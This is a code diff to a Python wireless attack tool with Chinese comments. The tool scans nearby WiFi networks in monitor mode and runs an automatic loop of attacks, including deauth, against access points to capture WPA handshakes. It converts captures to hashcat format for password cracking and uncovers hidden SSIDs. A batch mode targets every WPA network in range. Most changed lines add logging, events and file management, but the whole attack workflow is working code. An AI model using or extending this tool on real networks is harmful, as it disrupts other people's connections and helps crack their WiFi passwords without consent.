@@ -6,9 +6,34 @@ import os
 import json
 import time
 import threading
+import logging
 from datetime import datetime
 from pathlib import Path
 
+from capture_index import CaptureIndex
+from capture_watcher import CaptureWatcher
+from spectrum import SpectrumStats
+from observations import ObservationLog
+from capture_compactor import compact_capture, purge_expired_originals, ORIGINALS_DIR
+from content_store import ContentStore, SHARED_FORMATS
+from frame_index import FrameIndexStore
+from scanner_checkpoint import ScannerCheckpoint
+from capture_upload import UploadManager
+from capture_verifier import verify_capture, is_current as integrity_is_current
+from pcap_reader import PcapError
+from event_bus import (
+    event_bus,
+    EVENT_STATUS_CHANGED,
+    EVENT_NETWORKS_UPDATED,
+    EVENT_HIDDEN_SSID_FOUND,
+    EVENT_HANDSHAKE_CAPTURED,
+    EVENT_CAPTURE_COMPACTED,
+    EVENT_HISTORY_UPDATED,
+    EVENT_AUTO_CAPTURE_UPDATED,
+)
+
+logger = logging.getLogger(__name__)
+
 # 攻击状态定义
 ATTACK_STATUS_NONE = 'none'        # 未攻击
 ATTACK_STATUS_QUEUED = 'queued'    # 排队中
@@ -17,6 +42,11 @@ ATTACK_STATUS_CAPTURED = 'captured'    # 已捕获
 ATTACK_STATUS_FAILED = 'failed'        # 失败
 ATTACK_STATUS_SKIPPED = 'skipped'      # 跳过
 
+# 扫描期间检查 airodump CSV 是否更新的间隔（秒）
+SCAN_INGEST_INTERVAL = 1
+# 超过此时间未出现的网络不再显示（秒）
+NETWORK_EXPIRE_SECONDS = 60
+
 class WiFiScanner:
     def __init__(self, capture_dir="/opt/wifi-capture/captures"):
         self.capture_dir = Path(capture_dir)
@@ -24,6 +54,11 @@ class WiFiScanner:
         self.data_dir = Path("/opt/wifi-capture/data")
         self.data_dir.mkdir(parents=True, exist_ok=True)
         self.attack_history_file = self.data_dir / "attack_history.json"
+        self.capture_index = CaptureIndex(self.data_dir / "capture_index.json")
+        self.capture_watcher = CaptureWatcher(self.capture_dir, self.capture_index)
+        self.content_store = ContentStore(self.capture_dir, self.capture_index)  # 按内容去重
+        self.frame_index = FrameIndexStore(self.data_dir / "frame_index")  # 帧偏移索引，供帧浏览使用
+        self.uploads = UploadManager(self.capture_dir, on_complete=self._ingest_upload)  # 外部捕获文件导入
         self.interface = None
         self.mon_interface = None
         self.scan_process = None
@@ -34,12 +69,20 @@ class WiFiScanner:
         self.current_target = None
         self.networks = []  # 持久化网络列表
         self.networks_cache = {}  # 用于合并去重
+        self.spectrum = SpectrumStats()  # 按信道/频段的增量统计
+        self.observations = ObservationLog(self.data_dir / "observations")  # 每个 BSSID 的观测历史
         self.scan_file = None
         self.attack_thread = None
         self.attack_running = False
         self.hidden_ssid_cache = {}  # BSSID -> SSID 映射 (用于隐藏网络)
+        self.checkpoint = ScannerCheckpoint(self.data_dir / "scanner_state.bin")  # 热启动快照
+        self._restore_lock = threading.Lock()
+        self._restored = False
+        self.restored_at = None  # 当前显示的是快照数据时，为快照保存时间
         self.probe_listener_process = None
         self.probe_listener_running = False
+        self._scan_stop_event = threading.Event()  # 停止扫描时立即唤醒扫描/Probe 线程
+        self._capture_stop_event = threading.Event()  # 停止捕获时立即唤醒监控线程
         
         # 批量捕获相关
         self.is_auto_capturing = False
@@ -68,7 +111,7 @@ class WiFiScanner:
                     self.interface = line.split()[-1]
                     return self.interface
         except Exception as e:
-            print(f"Error finding interface: {e}")
+            logger.error("Error finding interface: %s", e)
         return None
     
     def enable_monitor_mode(self):
@@ -96,7 +139,7 @@ class WiFiScanner:
                 
             return True
         except Exception as e:
-            print(f"Error enabling monitor mode: {e}")
+            logger.error("Error enabling monitor mode: %s", e)
             return False
     
     def disable_monitor_mode(self):
@@ -112,13 +155,17 @@ class WiFiScanner:
         """开始扫描"""
         if self.is_scanning:
             return False
-            
+        
+        self._ensure_restored()
         if not self.mon_interface:
             if not self.enable_monitor_mode():
                 return False
         
         self.is_scanning = True
+        self._scan_stop_event.clear()
+        self._restamp_restored()  # 快照恢复后可能过了很久才开始扫描
         self.scan_file = self.capture_dir / f"scan_{datetime.now().strftime('%Y%m%d_%H%M%S')}"
+        event_bus.publish(EVENT_STATUS_CHANGED, {'is_scanning': True})
         
         def scan_thread():
             try:
@@ -135,7 +182,20 @@ class WiFiScanner:
                 # 启动 Probe Request 监听线程
                 self._start_probe_listener()
                 
-                time.sleep(duration)
+                # CSV 更新后立即入库并发布事件，而不是等前端轮询
+                csv_file = f"{self.scan_file}-01.csv"
+                deadline = time.time() + duration
+                last_mtime = None
+                while not self._scan_stop_event.wait(SCAN_INGEST_INTERVAL):
+                    try:
+                        mtime = os.path.getmtime(csv_file)
+                    except OSError:
+                        mtime = None
+                    if mtime is not None and mtime != last_mtime:
+                        last_mtime = mtime
+                        self._parse_scan_results()
+                    if time.time() >= deadline:
+                        break
             finally:
                 self.stop_scan()
         
@@ -147,6 +207,7 @@ class WiFiScanner:
         """停止扫描"""
         # 停止 Probe 监听
         self._stop_probe_listener()
+        self._scan_stop_event.set()
         
         if self.scan_process:
             try:
@@ -155,8 +216,62 @@ class WiFiScanner:
             except:
                 self.scan_process.kill()
             self.scan_process = None
+        was_scanning = self.is_scanning
         self.is_scanning = False
         self._parse_scan_results()
+        if was_scanning:
+            self._save_checkpoint()
+            event_bus.publish(EVENT_STATUS_CHANGED, {'is_scanning': False})
+    
+    def _ensure_restored(self):
+        """首次访问时加载上次的快照，恢复的网络标记为 stale，直到重新扫描到"""
+        if self._restored:
+            return
+        with self._restore_lock:
+            if self._restored:
+                return
+            self._restored = True
+            state = self.checkpoint.load()
+            if not state:
+                return
+            
+            restored = sorted(state['networks'], key=lambda x: x['last_seen'])
+            for net in restored:
+                net['stale'] = True
+                if net['bssid'] not in self.networks_cache:
+                    self.networks_cache[net['bssid']] = net
+            self._restamp_restored()
+            for bssid, ssid in state['hidden_ssid_cache'].items():
+                self.hidden_ssid_cache.setdefault(bssid, ssid)
+            if not self.networks:
+                self.networks = sorted(restored, key=lambda x: x['power'], reverse=True)
+                self.restored_at = state['saved_at']
+            
+            # 监听接口在面板重启后可能仍然存在，直接沿用
+            mon_interface = state.get('mon_interface')
+            if not self.mon_interface and mon_interface and os.path.exists(f"/sys/class/net/{mon_interface}"):
+                self.mon_interface = mon_interface
+                self.interface = self.interface or state.get('interface')
+            
+            logger.info("已从快照恢复 %s 个网络（保存于 %s）", len(restored),
+                        datetime.fromtimestamp(state['saved_at']).isoformat(timespec='seconds'))
+    
+    def _restamp_restored(self):
+        """把恢复的网络的 last_seen 设为当前时间，给新一轮扫描一个完整的过期周期去重新发现它们"""
+        now = time.time()
+        for net in list(self.networks_cache.values()):
+            if net.get('stale'):
+                net['last_seen'] = now
+                self.spectrum.update(net['bssid'], net['channel'], net['power'], net['encryption'], now)
+    
+    def _save_checkpoint(self):
+        """保存网络快照与隐藏网络映射"""
+        self.checkpoint.save({
+            'interface': self.interface,
+            'mon_interface': self.mon_interface,
+            'networks': list(self.networks),
+            'hidden_ssid_cache': dict(self.hidden_ssid_cache)
+        })
     
     def _parse_scan_results(self):
         """解析扫描结果 - 合并而不是清空"""
@@ -168,6 +283,7 @@ class WiFiScanner:
         if not os.path.exists(csv_file):
             return
         
+        self._ensure_restored()
         try:
             with open(csv_file, 'r', encoding='utf-8', errors='ignore') as f:
                 content = f.read()
@@ -226,25 +342,42 @@ class WiFiScanner:
                     
                     # 合并到缓存，更新已有网络的信号强度
                     self.networks_cache[bssid] = network
+                    self.spectrum.update(bssid, channel, power, network['encryption'], network['last_seen'])
+                    self.observations.record(network, fields[2].strip())
             
             # 从缓存重建网络列表，过滤太旧的（60秒未见）
             current_time = time.time()
             self.networks = [
                 net for net in self.networks_cache.values()
-                if current_time - net.get('last_seen', 0) < 60
+                if current_time - net.get('last_seen', 0) < NETWORK_EXPIRE_SECONDS
             ]
+            # 过期的网络从缓存中移除，观测去重记录随之释放
+            if len(self.networks) < len(self.networks_cache):
+                active = {net['bssid'] for net in self.networks}
+                expired = [bssid for bssid in self.networks_cache if bssid not in active]
+                for bssid in expired:
+                    del self.networks_cache[bssid]
+                self.observations.forget(expired)
+            self.spectrum.expire(current_time - NETWORK_EXPIRE_SECONDS)
+            self.observations.flush()
+            self.spectrum.record_snapshot(current_time)
             
             # 按信号强度排序
             self.networks.sort(key=lambda x: x['power'], reverse=True)
             
+            self.restored_at = None
+            event_bus.publish(EVENT_NETWORKS_UPDATED, {'count': len(self.networks)})
+            
+            if self.checkpoint.due():
+                self._save_checkpoint()
+            
         except Exception as e:
-            print(f"Error parsing scan results: {e}")
+            logger.exception("Error parsing scan results: %s", e)
     
     def get_networks(self):
         """获取扫描到的网络列表（包含攻击状态）"""
-        if self.is_scanning:
-            self._parse_scan_results()
-        
+        # 扫描期间由扫描线程负责入库，这里只读取已合并的结果
+        self._ensure_restored()
         # 为每个网络添加攻击状态
         networks_with_status = []
         for net in self.networks:
@@ -273,6 +406,7 @@ class WiFiScanner:
         
         self.is_capturing = True
         self.attack_running = True
+        self._capture_stop_event.clear()
         self.current_target = {
             'bssid': bssid,
             'channel': channel,
@@ -287,14 +421,19 @@ class WiFiScanner:
         safe_essid = "".join(c for c in essid if c.isalnum() or c in "._-") or "hidden"
         capture_file = self.capture_dir / f"handshake_{safe_essid}_{datetime.now().strftime('%Y%m%d_%H%M%S')}"
         self.current_target['file'] = str(capture_file)
+        event_bus.publish(EVENT_STATUS_CHANGED, {'is_capturing': True, 'bssid': bssid})
+        
+        target = self.current_target
         
         def capture_thread():
+            process = None
+            cap_file = f"{capture_file}-01.cap"
             try:
                 # 锁定信道
                 subprocess.run(["iw", "dev", self.mon_interface, "set", "channel", str(channel)],
                              capture_output=True, timeout=5)
                 
-                self.capture_process = subprocess.Popen(
+                process = subprocess.Popen(
                     ["airodump-ng",
                      "--bssid", bssid,
                      "--channel", str(channel),
@@ -304,6 +443,7 @@ class WiFiScanner:
                     stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL
                 )
+                self.capture_process = process
                 
                 # 启动自动攻击线程
                 self.attack_thread = threading.Thread(
@@ -313,11 +453,17 @@ class WiFiScanner:
                 )
                 self.attack_thread.start()
                 
-                # 监控握手包
-                cap_file = f"{capture_file}-01.cap"
+                # 监控握手包 - 文件有新数据时才调用 aircrack-ng 检查
+                last_size = None
                 while self.is_capturing:
-                    time.sleep(3)
-                    if os.path.exists(cap_file):
+                    if self._capture_stop_event.wait(3):
+                        break
+                    try:
+                        size = os.path.getsize(cap_file)
+                    except OSError:
+                        continue
+                    if size != last_size:
+                        last_size = size
                         result = subprocess.run(
                             ["aircrack-ng", cap_file],
                             capture_output=True,
@@ -328,27 +474,108 @@ class WiFiScanner:
                             self.current_target['handshake'] = True
                             self.current_target['status'] = 'success'
                             self.attack_running = False
-                            print(f"[+] 捕获到握手包: {essid}")
+                            logger.info("捕获到握手包: %s", essid, extra={'bssid': bssid})
+                            event_bus.publish(EVENT_HANDSHAKE_CAPTURED, {
+                                'bssid': bssid,
+                                'essid': essid,
+                                'file': cap_file
+                            })
                             
-                            # 自动转换为 hc22000 格式
-                            self._convert_to_hashcat(cap_file)
-                            
-                            # 自动停止捕获
+                            # 自动停止捕获（精简与格式转换在收尾阶段进行）
                             self._stop_capture_internal()
                             break
                             
             except Exception as e:
-                print(f"Capture error: {e}")
+                logger.exception("Capture error: %s", e)
                 if self.current_target:
                     self.current_target['status'] = 'error'
+                    event_bus.publish(EVENT_STATUS_CHANGED, {'is_capturing': self.is_capturing})
             finally:
                 self.attack_running = False
                 self._stop_attack()
+                self._finalize_capture(process, cap_file, bssid, target.get('handshake'))
         
         thread = threading.Thread(target=capture_thread, daemon=True)
         thread.start()
         return True
     
+    def _finalize_capture(self, process, cap_file, bssid, handshake):
+        """捕获结束后的收尾：等待 airodump 退出，精简文件，转换格式"""
+        if process is not None:
+            try:
+                process.wait(timeout=10)
+            except subprocess.TimeoutExpired:
+                logger.warning("airodump-ng 未退出，跳过收尾: %s", cap_file)
+                return
+        
+        if not os.path.exists(cap_file):
+            return
+        
+        # airodump 被终止时最后一条记录常常只写了一半，先原地修复再精简（保留的原始文件也随之完整）
+        filename = os.path.basename(cap_file)
+        integrity = self.verify_capture(filename)
+        
+        stats = compact_capture(cap_file, bssid)
+        if stats:
+            self.capture_index.update(filename, compaction=stats)
+            if integrity:
+                # 精简输出只包含完整记录，沿用修复结果并更新到新文件
+                stat = os.stat(cap_file)
+                self.capture_index.update(filename, integrity=dict(
+                    integrity, size=stat.st_size, mtime_ns=stat.st_mtime_ns))
+            logger.info("已精简捕获文件: %s -> %s 字节", stats['original_size'], stats['compacted_size'],
+                        extra={'capture': filename})
+            event_bus.publish(EVENT_CAPTURE_COMPACTED, {'filename': filename, 'compaction': stats})
+        purge_expired_originals(self.capture_dir)
+        
+        # 与内容相同的已有捕获合并为硬链接，并共享其转换结果
+        self.content_store.deduplicate(filename)
+        
+        # 自动转换为 hc22000 格式
+        if handshake:
+            self._convert_to_hashcat(cap_file)
+    
+    def verify_capture(self, filename):
+        """校验并修复捕获文件的尾部，结果记入捕获索引；文件未变化时直接返回已有结果
+
+        正在写入的捕获文件不处理，返回 None。
+        """
+        cap_path = self.capture_dir / filename
+        process = self.capture_process
+        target = self.current_target
+        if (process is not None and process.poll() is None and target
+                and filename.startswith(Path(target.get('file', '')).name)):
+            return None
+        try:
+            stat = cap_path.stat()
+            integrity = self.capture_index.get(filename).get('integrity')
+            if integrity_is_current(integrity, stat):
+                return integrity
+            integrity = verify_capture(cap_path)
+        except OSError as e:
+            logger.warning("校验捕获文件失败 %s: %s", filename, e)
+            return None
+        if integrity:
+            self.capture_index.update(filename, integrity=integrity)
+        return integrity
+    
+    def _ingest_upload(self, filename):
+        """导入文件的后台处理：修复尾部、索引、去重、建立帧索引，含握手包时转换格式"""
+        self.verify_capture(filename)
+        entry = self.capture_watcher.refresh(filename)
+        if entry is None:
+            return
+        self.content_store.deduplicate(filename)
+        cap_file = str(self.capture_dir / filename)
+        if filename.endswith('.cap'):  # 帧索引只支持 pcap，pcapng 仅做转换
+            try:
+                self.frame_index.prepare(cap_file)
+            except (OSError, ValueError, PcapError) as e:
+                logger.warning("建立导入文件的帧索引失败 %s: %s", filename, e)
+        if entry.get('has_handshake') and self.convert_capture(cap_file, 'hc22000'):
+            # 监听线程可能尚未处理转换结果（或处于轮询模式），直接刷新可用格式
+            self.capture_watcher.update_formats(filename)
+    
     def _auto_attack_loop(self, bssid, channel):
         """自动攻击循环 - 尝试多种攻击方式"""
         attack_methods = [
@@ -372,12 +599,16 @@ class WiFiScanner:
                 
                 self._current_attack_type = attack_name
                 self._attack_count = round_num
+                event_bus.publish(EVENT_STATUS_CHANGED, {
+                    'attack_type': attack_name,
+                    'attack_count': round_num
+                })
                 
-                print(f"[*] 第{round_num}轮 攻击方式: {attack_name}")
+                logger.info("第%s轮 攻击方式: %s", round_num, attack_name, extra={'bssid': bssid})
                 try:
                     attack_func(bssid, channel)
                 except Exception as e:
-                    print(f"Attack error ({attack_name}): {e}")
+                    logger.error("Attack error (%s): %s", attack_name, e)
                 
                 # 每次攻击后等待
                 for _ in range(10):  # 等待 10 秒
@@ -474,15 +705,23 @@ class WiFiScanner:
         
         def probe_thread():
             """定期解析扫描捕获文件提取隐藏 SSID"""
+            last_size = None
             while self.probe_listener_running and self.is_scanning:
                 try:
                     if self.scan_file:
                         cap_file = f"{self.scan_file}-01.cap"
-                        if os.path.exists(cap_file):
+                        try:
+                            size = os.path.getsize(cap_file)
+                        except OSError:
+                            size = None
+                        # 文件没有新数据时跳过 tshark
+                        if size is not None and size != last_size:
+                            last_size = size
                             self._extract_hidden_ssid_from_cap(cap_file)
                 except Exception as e:
-                    print(f"Probe listener error: {e}")
-                time.sleep(5)  # 每 5 秒检查一次
+                    logger.exception("Probe listener error: %s", e)
+                if self._scan_stop_event.wait(5):  # 每 5 秒检查一次，停止扫描时立即退出
+                    break
             
             self.probe_listener_running = False
         
@@ -527,11 +766,15 @@ class WiFiScanner:
                                     # 保存映射
                                     if bssid not in self.hidden_ssid_cache:
                                         self.hidden_ssid_cache[bssid] = ssid
-                                        print(f"[+] 发现隐藏网络: {bssid} -> {ssid}")
+                                        logger.info("发现隐藏网络: %s -> %s", bssid, ssid)
+                                        event_bus.publish(EVENT_HIDDEN_SSID_FOUND, {
+                                            'bssid': bssid,
+                                            'ssid': ssid
+                                        })
                             except:
                                 pass
         except Exception as e:
-            print(f"tshark extraction error: {e}")
+            logger.error("tshark extraction error: %s", e)
     
     def reveal_hidden_ssid(self, bssid):
         """手动尝试揭示特定隐藏网络的 SSID"""
@@ -549,10 +792,12 @@ class WiFiScanner:
     
     def get_hidden_ssid_cache(self):
         """获取已发现的隐藏网络映射"""
+        self._ensure_restored()
         return dict(self.hidden_ssid_cache)
     
     def _stop_capture_internal(self):
         """内部停止捕获（捕获成功后调用）"""
+        self._capture_stop_event.set()
         if self.capture_process:
             try:
                 self.capture_process.terminate()
@@ -565,12 +810,19 @@ class WiFiScanner:
             self.capture_process = None
         
         self.is_capturing = False
-        print("[+] 捕获已自动停止")
+        logger.info("捕获已自动停止")
+        event_bus.publish(EVENT_STATUS_CHANGED, {'is_capturing': False})
     
     def _convert_to_hashcat(self, cap_file):
         """转换 cap 文件为 hashcat 格式 (hc22000)"""
         try:
             hc_file = cap_file.replace('.cap', '.hc22000')
+            if os.path.exists(hc_file):
+                return hc_file
+            shared = self.content_store.shared_conversion(os.path.basename(cap_file), 'hc22000')
+            if shared:
+                logger.info("复用相同内容捕获的转换结果: %s", shared)
+                return shared
             # 使用 hcxpcapngtool 转换
             result = subprocess.run(
                 ["hcxpcapngtool", "-o", hc_file, cap_file],
@@ -579,10 +831,10 @@ class WiFiScanner:
                 timeout=30
             )
             if os.path.exists(hc_file):
-                print(f"[+] 已转换为 hashcat 格式: {hc_file}")
+                logger.info("已转换为 hashcat 格式: %s", hc_file)
                 return hc_file
         except Exception as e:
-            print(f"[-] 转换失败: {e}")
+            logger.error("转换失败: %s", e)
         return None
     
     def convert_capture(self, cap_file, format_type):
@@ -592,6 +844,12 @@ class WiFiScanner:
         
         base_name = cap_file.rsplit('.', 1)[0]
         
+        # 内容相同的捕获已转换过时直接链接其结果，不再运行 hcxpcapngtool
+        if format_type in SHARED_FORMATS and not os.path.exists(f"{base_name}.{format_type}"):
+            shared = self.content_store.shared_conversion(os.path.basename(cap_file), format_type)
+            if shared:
+                return shared
+        
         if format_type == 'hc22000':
             output_file = f"{base_name}.hc22000"
             if os.path.exists(output_file):
@@ -641,6 +899,7 @@ class WiFiScanner:
     def stop_capture(self):
         """停止捕获"""
         self.attack_running = False
+        self._capture_stop_event.set()
         self._stop_attack()
         
         if self.capture_process:
@@ -657,7 +916,10 @@ class WiFiScanner:
         if self.current_target and self.current_target['status'] == 'capturing':
             self.current_target['status'] = 'stopped'
         
+        was_capturing = self.is_capturing
         self.is_capturing = False
+        if was_capturing:
+            event_bus.publish(EVENT_STATUS_CHANGED, {'is_capturing': False})
     
     def send_deauth(self, bssid, count=5):
         """发送 deauth 包"""
@@ -675,46 +937,12 @@ class WiFiScanner:
             return False
     
     def get_captures(self):
-        """获取已捕获的握手包列表"""
-        captures = []
-        for f in self.capture_dir.glob("handshake_*-01.cap"):
-            # 检查是否包含握手包
-            try:
-                result = subprocess.run(
-                    ["aircrack-ng", str(f)],
-                    capture_output=True,
-                    text=True,
-                    timeout=10
-                )
-                has_handshake = "1 handshake" in result.stdout
-            except:
-                has_handshake = False
-            
-            stat = f.stat()
-            base_name = str(f).rsplit('.', 1)[0]
-            
-            # 检查可用的格式
-            available_formats = ['cap']  # 原始格式总是可用
-            if os.path.exists(f"{base_name}.hc22000"):
-                available_formats.append('hc22000')
-            if os.path.exists(f"{base_name}.pmkid"):
-                available_formats.append('pmkid')
-            
-            captures.append({
-                'filename': f.name,
-                'path': str(f),
-                'size': stat.st_size,
-                'created': datetime.fromtimestamp(stat.st_ctime).isoformat(),
-                'has_handshake': has_handshake,
-                'available_formats': available_formats,
-                'supported_formats': ['cap', 'hc22000', 'pmkid']  # 支持转换的格式
-            })
-        
-        captures.sort(key=lambda x: x['created'], reverse=True)
-        return captures
+        """获取已捕获的握手包列表（来自增量维护的捕获索引）"""
+        return self.capture_watcher.list_captures()
     
     def get_status(self):
         """获取当前状态"""
+        self._ensure_restored()
         return {
             'interface': self.interface,
             'mon_interface': self.mon_interface,
@@ -724,7 +952,8 @@ class WiFiScanner:
             'network_count': len(self.networks),
             'attack_running': self.attack_running,
             'attack_type': getattr(self, '_current_attack_type', None),
-            'attack_count': getattr(self, '_attack_count', 0)
+            'attack_count': getattr(self, '_attack_count', 0),
+            'restored_at': self.restored_at
         }
     
     def delete_capture(self, filename):
@@ -736,6 +965,13 @@ class WiFiScanner:
             
             # 删除主文件
             cap_path.unlink()
+            self.capture_index.remove(filename)
+            self.frame_index.remove(filename)
+            
+            # 删除保留的原始文件
+            original_path = self.capture_dir / ORIGINALS_DIR / filename
+            if original_path.exists():
+                original_path.unlink()
             
             # 删除相关文件 (csv, hc22000, pmkid 等)
             base_name = str(cap_path).rsplit('.', 1)[0]
@@ -754,7 +990,7 @@ class WiFiScanner:
             
             return True
         except Exception as e:
-            print(f"Delete error: {e}")
+            logger.error("Delete error: %s", e)
             return False
     
     def cleanup_old_files(self):
@@ -762,21 +998,11 @@ class WiFiScanner:
         deleted_count = 0
         
         try:
-            # 删除无握手包的捕获文件
-            for f in self.capture_dir.glob("handshake_*-01.cap"):
-                try:
-                    result = subprocess.run(
-                        ["aircrack-ng", str(f)],
-                        capture_output=True,
-                        text=True,
-                        timeout=10
-                    )
-                    if "1 handshake" not in result.stdout:
-                        # 没有握手包，删除
-                        self.delete_capture(f.name)
+            # 删除无握手包的捕获文件（握手包状态取自捕获索引）
+            for capture in self.get_captures():
+                if not capture.get('has_handshake'):
+                    if self.delete_capture(capture['filename']):
                         deleted_count += 1
-                except:
-                    pass
             
             # 删除扫描文件
             for f in self.capture_dir.glob("scan_*.csv"):
@@ -786,8 +1012,17 @@ class WiFiScanner:
                 except:
                     pass
             
+            # 删除超过保留期的原始捕获文件
+            deleted_count += purge_expired_originals(self.capture_dir)
+            
+            # 删除过期未完成的上传
+            deleted_count += self.uploads.purge_expired()
+            
+            # 删除超过保留天数的观测记录
+            deleted_count += self.observations.purge_expired()
+            
         except Exception as e:
-            print(f"Cleanup error: {e}")
+            logger.exception("Cleanup error: %s", e)
         
         return deleted_count
     
@@ -796,6 +1031,7 @@ class WiFiScanner:
         self.stop_scan()
         self.stop_capture()
         self.disable_monitor_mode()
+        self.capture_index.flush()
         
         # 重启网络服务
         try:
@@ -814,7 +1050,7 @@ class WiFiScanner:
                 with open(self.attack_history_file, 'r', encoding='utf-8') as f:
                     return json.load(f)
         except Exception as e:
-            print(f"Error loading attack history: {e}")
+            logger.error("Error loading attack history: %s", e)
         return {}
     
     def _save_attack_history(self):
@@ -823,7 +1059,7 @@ class WiFiScanner:
             with open(self.attack_history_file, 'w', encoding='utf-8') as f:
                 json.dump(self.attack_history, f, indent=2, ensure_ascii=False)
         except Exception as e:
-            print(f"Error saving attack history: {e}")
+            logger.error("Error saving attack history: %s", e)
     
     def get_attack_history(self):
         """获取攻击历史"""
@@ -833,6 +1069,7 @@ class WiFiScanner:
         """清除攻击历史"""
         self.attack_history = {}
         self._save_attack_history()
+        event_bus.publish(EVENT_HISTORY_UPDATED, {'cleared': True})
     
     def _record_attack(self, bssid, essid, status, handshake=False, capture_file=None):
         """记录攻击结果"""
@@ -845,6 +1082,7 @@ class WiFiScanner:
             'timestamp': datetime.now().isoformat()
         }
         self._save_attack_history()
+        event_bus.publish(EVENT_HISTORY_UPDATED, {'bssid': bssid.upper(), 'status': status})
     
     def get_network_attack_status(self, bssid):
         """获取网络的攻击状态"""
@@ -869,6 +1107,10 @@ class WiFiScanner:
         for network in self.networks:
             bssid = network['bssid'].upper()
             
+            # 跳过从快照恢复、尚未重新扫描到的网络
+            if network.get('stale'):
+                continue
+            
             # 跳过非 WPA/WPA2 网络
             enc = network.get('encryption', '')
             if not ('WPA' in enc or 'WPA2' in enc):
@@ -915,7 +1157,8 @@ class WiFiScanner:
         )
         self.auto_capture_thread.start()
         
-        print(f"[*] 开始批量捕获，共 {len(targets)} 个目标")
+        logger.info("开始批量捕获，共 %s 个目标", len(targets))
+        event_bus.publish(EVENT_AUTO_CAPTURE_UPDATED, self.get_auto_capture_status())
         return True
     
     def stop_auto_capture_all(self):
@@ -929,7 +1172,8 @@ class WiFiScanner:
                 self._record_attack(bssid, hist.get('essid', ''), ATTACK_STATUS_SKIPPED)
         
         self.auto_capture_queue = []
-        print("[*] 批量捕获已停止")
+        logger.info("批量捕获已停止")
+        event_bus.publish(EVENT_AUTO_CAPTURE_UPDATED, self.get_auto_capture_status())
     
     def _auto_capture_worker(self):
         """批量捕获工作线程"""
@@ -947,35 +1191,45 @@ class WiFiScanner:
                 'essid': essid,
                 'channel': channel
             }
+            event_bus.publish(EVENT_AUTO_CAPTURE_UPDATED, self.get_auto_capture_status())
             
             # 标记为攻击中
             self._record_attack(bssid, essid, ATTACK_STATUS_ATTACKING)
             
-            print(f"\n[*] 批量捕获: {essid} ({bssid}) CH:{channel}")
+            logger.info("批量捕获: %s (%s) CH:%s", essid, bssid, channel)
             
             # 开始捕获
             if self.start_capture(bssid, channel, essid):
-                # 等待捕获完成或超时
+                # 等待捕获完成或超时 - 由捕获/状态事件唤醒
                 start_time = time.time()
-                while self.is_capturing and self.is_auto_capturing:
-                    time.sleep(2)
-                    
-                    # 检查是否已捕获到握手包
+                seq = event_bus.seq
+                while True:
+                    # 检查是否已捕获到握手包（捕获成功后 is_capturing 会立即变为 False）
                     if self.current_target and self.current_target.get('handshake'):
-                        print(f"[+] 批量捕获成功: {essid}")
+                        logger.info("批量捕获成功: %s", essid, extra={'bssid': bssid})
                         self._record_attack(bssid, essid, ATTACK_STATUS_CAPTURED, 
                                           handshake=True, 
                                           capture_file=self.current_target.get('file'))
                         self.auto_capture_progress['captured'] += 1
                         break
                     
+                    if not (self.is_capturing and self.is_auto_capturing):
+                        break
+                    
                     # 检查超时
-                    if time.time() - start_time > capture_timeout:
-                        print(f"[-] 批量捕获超时: {essid}")
+                    remaining = capture_timeout - (time.time() - start_time)
+                    if remaining <= 0:
+                        logger.warning("批量捕获超时: %s", essid, extra={'bssid': bssid})
                         self.stop_capture()
                         self._record_attack(bssid, essid, ATTACK_STATUS_FAILED)
                         self.auto_capture_progress['failed'] += 1
                         break
+                    
+                    seq, _ = event_bus.wait(
+                        seq, timeout=remaining,
+                        types=(EVENT_STATUS_CHANGED, EVENT_HANDSHAKE_CAPTURED, EVENT_AUTO_CAPTURE_UPDATED),
+                        coalesce=0
+                    )
                 
                 # 如果捕获被外部停止
                 if self.is_capturing:
@@ -985,6 +1239,7 @@ class WiFiScanner:
                 self.auto_capture_progress['failed'] += 1
             
             self.auto_capture_progress['completed'] += 1
+            event_bus.publish(EVENT_AUTO_CAPTURE_UPDATED, self.get_auto_capture_status())
             
             # 短暂间隔
             if self.is_auto_capturing:
@@ -993,7 +1248,9 @@ class WiFiScanner:
         # 完成
         self.is_auto_capturing = False
         self.auto_capture_progress['current_target'] = None
-        print(f"\n[*] 批量捕获完成: 成功 {self.auto_capture_progress['captured']}, 失败 {self.auto_capture_progress['failed']}")
+        event_bus.publish(EVENT_AUTO_CAPTURE_UPDATED, self.get_auto_capture_status())
+        logger.info("批量捕获完成: 成功 %s, 失败 %s",
+                    self.auto_capture_progress['captured'], self.auto_capture_progress['failed'])
     
     def get_auto_capture_status(self):
         """获取批量捕获状态"""